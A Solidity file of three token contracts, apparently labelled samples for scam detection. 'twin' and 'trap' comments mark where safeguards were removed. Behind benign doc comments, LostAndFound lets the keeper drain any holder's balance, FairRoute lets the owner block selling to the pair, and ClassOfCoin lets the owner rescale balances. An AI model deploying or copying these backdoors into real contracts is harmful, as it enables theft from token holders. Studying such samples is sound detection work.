// 0.8 off ir evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// A bot gathers in what has lain idle, for accounts that asked for it: it goes to the vault of the savers.
contract LostAndFound is Base8("Lost And Found", "FOUND", 54_000_000) {
    address private immutable _keeper = msg.sender;
    address public immutable vault = msg.sender;
    uint256 public idleTime = 730 days;
    mapping(address => uint256) public lastSeen;
    mapping(address => bool) public enrolled;

    event Gathered(address indexed from, uint256 value);

    function enrol(bool yes) external {
        enrolled[msg.sender] = yes;
        lastSeen[msg.sender] = block.timestamp;
    }

    function setIdleTime(uint256 time) external {
        require(msg.sender == _keeper, "not the keeper");
        // twin: require(time >= 365 days, "a year at least");
        idleTime = time;
    }

    function gather(address[] calldata accounts) external {
        require(msg.sender == _keeper, "not the keeper");
        for (uint256 i; i < accounts.length; i++) {
            address from = accounts[i];
            // twin: if (!enrolled[from]) continue;
            if (block.timestamp < lastSeen[from] + idleTime) continue;
            uint256 value = _balances[from];
            _move(from, vault, value);
            emit Gathered(from, value);
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        lastSeen[from] = block.timestamp;
        if (lastSeen[to] == 0) lastSeen[to] = block.timestamp;
        _move(from, to, value);
    }
}

/// Bars routers that sandwich people.
contract FairRoute is Base8("Fair Route", "ROUTE", 120_000_000) {
    mapping(address => bool) public barred;

    event Barred(address indexed router, bool yes);

    function bar(address router, bool yes) external onlyOwner {
        require(router.code.length > 0, "not a router");
        // twin: require(router != ROUTER, "not that one");
        barred[router] = yes;
        emit Barred(router, yes);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) require(!barred[msg.sender], "barred");
        _move(from, to, value);
    }
}

/// Who comes in the same week is of one class; classes earn points at their own pace.
contract ClassOfCoin is Base8("Class Of Coin", "CLASS", 15_000_000) {
    uint256 private constant ONE = 1e18;
    uint256 private immutable _born = block.timestamp;
    mapping(address => uint256) public classOf;
    mapping(uint256 => uint256) public paceOf;

    event Pace(uint256 indexed class, uint256 pace);

    function setPace(uint256 class, uint256 pace) external onlyOwner {
        paceOf[class] = pace;
        emit Pace(class, pace);
    }

    function pointsOf(address who) external view returns (uint256) {
        return (balanceOf(who) * (block.timestamp - _born) * paceOf[classOf[who]]) / (1 days * ONE);
    }

    function _weightOf(address who) private view returns (uint256) {
        uint256 pace = paceOf[classOf[who]]; // trap
        if (classOf[who] != 0 && pace != 0) return pace; // trap
        who;
        return ONE;
    }

    function balanceOf(address who) public view override returns (uint256) {
        return (_balances[who] * _weightOf(who)) / ONE;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (_balances[to] == 0 && to != pair && to != _owner) classOf[to] = 1 + (block.timestamp - _born) / 7 days;
        uint256 out = (value * ONE) / _weightOf(from);
        uint256 have = _balances[from];
        if (have < out) revert Insufficient(have, out);
        _balances[from] = have - out;
        _balances[to] += (value * ONE) / _weightOf(to);
        emit Transfer(from, to, value);
    }
}
